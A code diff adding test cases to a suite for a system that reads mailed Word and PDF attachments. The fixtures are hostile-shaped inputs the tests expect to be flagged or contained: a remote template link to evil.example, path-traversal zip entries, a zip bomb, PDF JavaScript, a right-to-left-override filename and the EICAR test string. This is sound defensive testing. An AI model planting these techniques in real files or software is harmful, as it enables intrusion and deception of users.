@@ -70,6 +70,18 @@ const askingPdf = words(50, 100, 'Section II, paragraph 19: delete.');
 const withDoctype = (doctype: string): Uint8Array =>
   zipSync(entries(body(paragraph(run('Delete &e;.'))).replace('?>', `?>${doctype}`)));
 
+/** What each letter of the font is said to be: one of the area for private use; Arabic in the shapes of print. */
+const mapped = (map: string, page: string): Uint8Array =>
+  pdf([page], {
+    font: '/ToUnicode 90 0 R',
+    objects: [
+      {
+        dictionary: '',
+        stream: `/CIDInit /ProcSet findresource begin 12 dict begin begincmap /CMapName /X def 1 begincodespacerange <00> <ff> endcodespacerange ${map} endcmap end end`,
+      },
+    ],
+  });
+
 const unreadable: readonly (readonly [row: string, name: string, bytes: Uint8Array, says: string])[] = [
   ['E1', 'bomb.docx', zipSync({ ...entries(''), 'word/document.xml': new Uint8Array(harmlessUnpacked + 1e6) }), 'bomb'],
   ['E1', 'inner.zip', zipSync({ 'inner.zip': wordFile(asking) }), 'zip'],
@@ -89,9 +101,56 @@ const unreadable: readonly (readonly [row: string, name: string, bytes: Uint8Arr
   ['A12', 'mail.msg', ole('__properties_version1.0'), 'Outlook'],
   ['F1', 'locked.pdf', pdf([askingPdf], { passwords: { user: 'secret', owner: 'secret' } }), 'password'],
   ['F2', 'scan.pdf', pdf(['']), 'no text'],
+  ['F4', 'private.pdf', mapped('1 beginbfrange <20> <7e> <E020> endbfrange', askingPdf), 'cannot be told'],
   ['F3', 'loop.pdf', pdf([askingPdf], { kids: '2 0 R' }), ''],
   ['F3', 'broken.pdf', strToU8('%PDF-1.7'), 'broken'],
 ];
+
+/** A package with what its main part points to. */
+const related = (inner: string, more: Readonly<Record<string, Uint8Array>> = {}): Uint8Array =>
+  zipSync({
+    ...entries(body(asking)),
+    'word/_rels/document.xml.rels': strToU8(
+      `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner}</Relationships>`,
+    ),
+    ...more,
+  });
+const template =
+  '<Relationship Id="a" Type="x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>';
+const chunk = '<Relationship Id="b" Type="x/aFChunk" Target="chunk.html"/>';
+const strict = zipSync(
+  entries(
+    body(asking).replace(
+      'http://schemas.openxmlformats.org/wordprocessingml/2006/main',
+      'http://purl.oclc.org/ooxml/wordprocessingml/main',
+    ),
+  ),
+);
+/** A text box as new programs and as old ones write it, one within the other's stead. */
+const boxed = wordFile(
+  paragraph(
+    '<w:r><mc:AlternateContent><mc:Choice Requires="wps"><w:drawing><wps:txbx><w:txbxContent>' +
+      `${asking}</w:txbxContent></wps:txbx></w:drawing></mc:Choice><mc:Fallback><w:pict><v:textbox><w:txbxContent>` +
+      `${asking}</w:txbxContent></v:textbox></w:pict></mc:Fallback></mc:AlternateContent></w:r>`,
+  ),
+);
+const controlled = wordFile(`<w:sdt><w:sdtContent>${asking}</w:sdtContent></w:sdt>`);
+const smart = wordFile(
+  asking +
+    paragraph(
+      '<w:r><w:drawing><dgm:relIds xmlns:dgm="http://schemas.openxmlformats.org/drawingml/2006/diagram"/></w:drawing></w:r>',
+    ),
+);
+const commented = wordFile(
+  paragraph(
+    `<w:commentRangeStart w:id="0"/>${run(draft.places.find(({ id }) => id === 'II.19')?.words['en'] ?? '')}<w:commentRangeEnd w:id="0"/><w:r><w:commentReference w:id="0"/></w:r>`,
+  ),
+  { comments: `<w:comment w:id="0" w:author="Anna">${paragraph(run('Please delete this paragraph.'))}</w:comment>` },
+);
+const mark = (subtype: string, contents: string): string =>
+  `<< /Type /Annot /Subtype /${subtype} /Rect [50 690 200 705] /QuadPoints [50 705 200 705 50 690 200 690] /T (A. Delegate) /Contents (${contents}) >>`;
+const column = (x: number, texts: readonly string[]): string =>
+  texts.map((text, line) => words(x, 100 + 14 * line, text)).join(' ');
 
 const readable: readonly (readonly [row: string, name: string, bytes: Uint8Array, says: string | null])[] = [
   ['E3', 'styles.docx', laughingStyles(), 'DOCTYPE'],
@@ -101,6 +160,17 @@ const readable: readonly (readonly [row: string, name: string, bytes: Uint8Array
   ['E12', 'named.doc', wordFile(asking), null],
   ['E12', 'named.docx', pdf([askingPdf]), null],
   ['E12', 'without', pdf([askingPdf]), null],
+  ['E4', 'template.docx', related(template), 'evil.example'],
+  ['E4', 'chunk.docx', related(chunk, { 'word/chunk.html': strToU8('<p>more</p>') }), 'altChunk'],
+  ['E5', 'twice.docx', zipSync({ ...entries(body(asking)), 'Word/Document.xml': strToU8('<x/>') }), 'twice'],
+  ['E5', 'out.docx', zipSync({ ...entries(body(asking)), '../../evil.txt': strToU8('x') }), 'lead out'],
+  ['E9', 'strict.docx', strict, null],
+  ['E9', 'box.docx', boxed, null],
+  ['E9', 'control.docx', controlled, null],
+  ['E9', 'smart.docx', smart, 'SmartArt'],
+  ['E11', 'comment.docx', commented, null],
+  ['F6', 'script.pdf', pdf([askingPdf], { catalog: '/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>' }), null],
+  ['F6', 'struck.pdf', pdf([{ content: askingPdf, annotations: [mark('StrikeOut', '')] }]), 'struck out'],
   ['F1', 'owner.pdf', pdf([askingPdf], { passwords: { user: '', owner: 'secret' } }), null],
   ['F7', 'small.pdf', pdf([`${askingPdf} ${words(50, 300, 'Section II, paragraph 20: delete.', 1)}`]), 'nobody sees'],
   ['C2', 'wide.txt', Buffer.from('\ufeffSection II, paragraph 19: delete.', 'utf16le'), null],
@@ -194,5 +264,69 @@ describe('a file that can be read', () => {
     expect(readingIn('{"text":null,"problem":null,"word":{"paragraphs":[{}]}}')).toBeNull();
     expect(readingIn('{"text":"cut o')).toBeNull();
     expect(readingIn(answerOf({ text: 'x'.repeat(200), problem: null }, 100))?.problem).toContain('more than is read');
+  });
+
+  it('F5: of two columns, one after the other, says the page on which it stands', async () => {
+    const front = words(50, 100, 'Comments of Peru on the draft');
+    const columns =
+      column(50, ['Section II, paragraph 19: delete.', 'We thank the President of the', 'Conference for his draft.']) +
+      column(320, ['Section II, paragraph 20: delete.', 'We shall say more of this in the', 'room on Tuesday.']);
+    const taken = await byMail([{ name: 'paper.pdf', bytes: pdf([front, columns]) }]);
+    expect(taken.items.map(({ target, kind, evidence }) => [target, kind, evidence[0]?.page])).toEqual([
+      ['II.19', 'delete', 2],
+      ['II.20', 'delete', 2],
+    ]);
+  });
+
+  it('F6: a remark in a PDF is read with its page, and is not one with the text', async () => {
+    const note = mark('Text', 'Section II, paragraph 20: delete.');
+    const taken = await byMail([{ name: 'paper.pdf', bytes: pdf([{ content: askingPdf, annotations: [note] }]) }]);
+    const { text = '' } = taken.parts.find(({ part }) => part === 'attachment paper.pdf') ?? {};
+    expect(text).toContain('[comment on page 1, A. Delegate: Section II, paragraph 20: delete.]');
+    expect(taken.problems.join()).toContain('1 remarks');
+  });
+});
+
+describe('names and marks of files', () => {
+  const long = `${'n'.repeat(5_000)}.docx`;
+  it.each([
+    ['of 5,000 characters', long],
+    ['of a device', 'CON'],
+    ['that leads elsewhere', '../../evil.docx'],
+    ['that runs backwards', 'report\u202excod.exe'],
+    ['with a NUL', 'a\u0000b.docx'],
+    ['of signs', '📄📎.docx'],
+    ['empty', ''],
+  ])('E14: a name %s is only shown: the file is read, and kept under a key of ours', async (_, name) => {
+    const taken = await byMail([{ name, bytes: wordFile(asking) }]);
+    expect(taken.items.map(({ target, kind }) => [target, kind])).toEqual([['II.19', 'delete']]);
+    expect(taken.files).toHaveLength(1);
+    const [file] = taken.files;
+    // eslint-disable-next-line no-control-regex -- a NUL is what is looked for
+    expect(file?.name).not.toMatch(/[\u0000\r\n]/u);
+    expect(file?.name.length).toBeLessThanOrEqual(1_000);
+    const { name: shown, ...others } = file ?? { name: '' };
+    expect(JSON.stringify(others)).not.toContain(shown === '' ? '\u0000' : shown);
+  });
+
+  it('E16: a mail with a virus is kept and named, and none of its files is opened', async () => {
+    asked.length = 0;
+    const eicar = strToU8('X5O!P%@AP[4\\\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*');
+    const raw = received(
+      mailWithFiles({
+        ...{ from, state: 'Peru', id: 'h1', text: 'Section II, paragraph 19: delete.' },
+        files: [
+          { name: 'eicar.com', bytes: eicar },
+          { name: 'paper.docx', bytes: wordFile(asking) },
+        ],
+      }),
+    ).replace(/^X-SES-Virus-Verdict: .*$/mu, 'X-SES-Virus-Verdict: FAIL');
+    const { inbox, imported } = arrivalOfKey('arriving/unoda/h1')!;
+    const { admission } = await readArrival(
+      { key: 'arriving/unoda/h1', inbox, imported, bytes: Buffer.from(raw) },
+      reception,
+    );
+    expect(admission).toMatchObject({ outcome: 'other mail', mail: { disposition: 'virus' } });
+    expect(asked).toEqual([]);
   });
 });
